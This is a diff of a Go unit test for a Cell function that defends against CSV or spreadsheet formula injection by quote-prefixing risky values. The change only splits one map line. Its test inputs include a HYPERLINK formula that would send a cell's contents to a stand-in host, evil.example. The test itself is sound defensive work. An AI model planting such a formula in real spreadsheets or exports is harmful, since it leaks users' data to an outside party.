@@ -7,7 +7,8 @@ import "testing"
 func TestACellIsNoFormula(t *testing.T) {
 	for v, want := range map[any]string{
 		`=HYPERLINK("https://evil.example?"&A1)`: `'=HYPERLINK("https://evil.example?"&A1)`,
-		"+44 1632 960 100":                       "'+44 1632 960 100", "-3": "'-3", int64(-3): "-3", -2.5: "-2.5", "@SUM(1)": "'@SUM(1)",
+		"+44 1632 960 100":                       "'+44 1632 960 100",
+		"-3":                                     "'-3", int64(-3): "-3", -2.5: "-2.5", "@SUM(1)": "'@SUM(1)",
 		"\t=1": "'\t=1", "'=1": "''=1", "''=1": "'''=1", "'tis": "'tis", "": "", "a=1": "a=1", true: "true",
 	} {
 		got := Cell(v)
